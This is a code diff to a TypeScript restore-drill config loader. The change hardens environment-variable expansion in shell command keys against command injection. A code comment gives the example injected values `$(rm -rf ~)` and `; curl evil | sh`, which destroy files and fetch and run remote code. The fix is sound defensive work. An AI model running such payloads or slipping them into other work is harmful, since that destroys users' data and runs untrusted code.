@@ -4,8 +4,10 @@ import Ajv, { type ErrorObject } from 'ajv';
 import { ConfigError } from '../errors';
 import { parseDuration } from './duration';
 import type { AzureAccess } from './providers/azureArm';
+import type { SslMode } from './pgTls';
 import { Redactor } from './redact';
 import { drillFileSchema, PROBE_TYPES } from './schema';
+import { assertInputSize } from '../config/inputSize';
 import { nearest } from '../config/suggest';
 import { formatPath, parseYamlSource, type DocPath as YamlPath, type YamlSource as ParsedYaml } from '../config/yamlSource';
 
@@ -66,7 +68,7 @@ export interface DrillConfig {
     user?: string;
     password?: string;
     port?: number;
-    sslmode?: string;
+    sslmode?: SslMode;
   };
   restore: { jobs?: number; command?: string; pointInTime?: string; pollInterval?: string | number };
   start: { command?: string; health?: { url: string; expectStatus: number; intervalSeconds: number } };
@@ -75,6 +77,11 @@ export interface DrillConfig {
   cleanup: { keep: boolean; command?: string };
   timeouts: { preflight: number; backup: number; restore: number; start: number; probe: number; cleanup: number };
   tools: { binDir?: string };
+  /**
+   * The `${VAR}` values that command keys reference, by name. Command lines keep `${VAR}` as written and get these
+   * in their environment, so the shell expands a value as data and never parses it as shell syntax.
+   */
+  commandEnv: Record<string, string>;
   redactor: Redactor;
   /** Azure Resource Manager access for the Azure providers; set by the runner from DrillOptions.azure, never from the file. */
   azure?: AzureAccess;
@@ -105,6 +112,7 @@ const PATH_KEYS: YamlPath[] = [
 const SECRET_ENV_NAME = /pass|secret|token|key|pwd|credential/i;
 
 export function loadDrillConfig(file: string, env: NodeJS.ProcessEnv = process.env): DrillConfig {
+  assertInputSize(file, 'yaml');
   let text: string;
   try {
     text = readFileSync(file, 'utf8');
@@ -130,7 +138,8 @@ export function parseDrillConfig(text: string, file: string, env: NodeJS.Process
   if (!validate(raw as unknown)) for (const e of validate.errors ?? []) reportSchemaError(e, yaml, at);
 
   const redactor = new Redactor();
-  expandEnv(raw, [], env, redactor, at);
+  const commandEnv: Record<string, string> = {};
+  expandEnv(raw, [], env, redactor, at, commandEnv);
   const seconds = (path: YamlPath, fallback: number): number => {
     let value: unknown = raw;
     for (const step of path) value = (value as Record<string | number, unknown> | undefined)?.[step];
@@ -199,6 +208,7 @@ export function parseDrillConfig(text: string, file: string, env: NodeJS.Process
       Object.entries(DEFAULT_TIMEOUTS).map(([step, fallback]) => [step, seconds(['timeouts', step], fallback)]),
     ) as DrillConfig['timeouts'],
     tools: { ...raw.tools },
+    commandEnv,
     redactor,
   };
 }
@@ -246,29 +256,46 @@ function reportSchemaError(e: ErrorObject, yaml: ParsedYaml, at: (p: YamlPath, m
   }
 }
 
+/**
+ * Keys whose value is a command line for `/bin/sh -c`. Pasting a value into such a line would let a value such as
+ * `$(rm -rf ~)` or `; curl evil | sh` run as code (command injection), so in these `${VAR}` is left for the shell
+ * to expand from the environment (see `commandEnv`): a shell never re-parses an expanded value.
+ */
+export function isCommandKey(path: YamlPath): boolean {
+  const last = path[path.length - 1];
+  return last === 'command' || last === 'newestCommand';
+}
+
+const ENV_REFERENCE = /\$\{([A-Za-z_][A-Za-z0-9_]*)\}/g;
+
 function expandEnv(
   node: any,
   path: YamlPath,
   env: NodeJS.ProcessEnv,
   redactor: Redactor,
   at: (p: YamlPath, m: string) => void,
+  commandEnv: Record<string, string>,
 ): void {
   if (!node || typeof node !== 'object') return;
   for (const key of Object.keys(node)) {
     const value = node[key];
     const here = [...path, Array.isArray(node) ? Number(key) : key];
     if (typeof value === 'string') {
-      node[key] = value.replace(/\$\{([A-Za-z_][A-Za-z0-9_]*)\}/g, (_match, name: string) => {
+      const command = isCommandKey(here);
+      const expanded = value.replace(ENV_REFERENCE, (match, name: string) => {
         const found = env[name];
         if (found === undefined) {
           at(here, `environment variable ${name} is not set; set it, or pass it as a secret pipeline variable`);
           return '';
         }
         if (SECRET_ENV_NAME.test(name)) redactor.addSecret(found);
-        return found;
+        if (!command) return found;
+        commandEnv[name] = found;
+        return match;
       });
+      node[key] = expanded;
     } else {
-      expandEnv(value, here, env, redactor, at);
+      expandEnv(value, here, env, redactor, at, commandEnv);
     }
   }
 }
